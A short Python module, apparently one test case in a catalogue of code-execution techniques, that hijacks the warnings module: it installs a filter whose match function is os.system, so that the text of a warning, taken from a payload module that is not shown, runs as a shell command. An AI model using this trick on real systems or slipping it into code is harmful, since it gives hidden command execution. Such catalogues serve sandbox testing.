"""A filter of warnings, with a C function as match()."""
CATEGORY = "callable"
REACH = "run"

import os
import warnings

from . import payload


class Pattern:
    pass


def attack():
    pattern = Pattern()
    pattern.match = os.system
    warnings.filters.insert(0, ("always", pattern, Warning, None, 0))
    warnings._filters_mutated()


TEXT = payload.COMMAND
